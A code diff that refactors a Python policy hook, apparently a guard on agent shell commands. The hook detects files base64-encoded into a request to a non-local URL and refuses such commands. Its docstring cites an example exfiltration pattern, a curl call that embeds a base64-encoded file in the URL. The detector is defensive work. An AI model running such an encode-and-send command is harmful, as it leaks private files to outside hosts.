@@ -8,7 +8,7 @@ from typing import TYPE_CHECKING
 
 from hooks.policy.programs.loopback import is_loopback
 from hooks.policy.shell.values import UNKNOWN, program_name
-from hooks.policy.tables import listed
+from hooks.policy.tables import read_list
 
 if TYPE_CHECKING:
     from hooks.policy.shell.facade import Shell
@@ -22,15 +22,15 @@ def check_encoded_file(words: tuple[str, ...], urls: tuple[str, ...], command: C
     """`curl "https://x/$(base64 FILE)"`; `words` are those of the call that another machine gets to see."""
     if not any(UNKNOWN in word for word in words) or all(is_loopback(url) for url in urls):
         return
-    if any(_encodes_file(before, argv) for before, argv in pairwise(((), *shell.session.log))):
+    if any(_encodes_file(before, argv) for before, argv in pairwise(((), *shell.memory.log))):
         shell.refuse_unless_lenient("deploy.request", command.argv)
 
 
 def _encodes_file(before: tuple[str, ...], argv: tuple[str, ...]) -> bool:
     """Whether a program encodes a file, and not a text that `echo` prints."""
-    if not argv or program_name(argv[0]) not in listed("encoders") or not DECODES.isdisjoint(argv):
+    if not argv or program_name(argv[0]) not in read_list("encoders") or not DECODES.isdisjoint(argv):
         return False
-    of_words = bool(before) and program_name(before[0]) in listed("printers_of_words")
+    of_words = bool(before) and program_name(before[0]) in read_list("printers_of_words")
     return not of_words or any(map(FILE_OPERAND.fullmatch, argv[1:]))
 
 
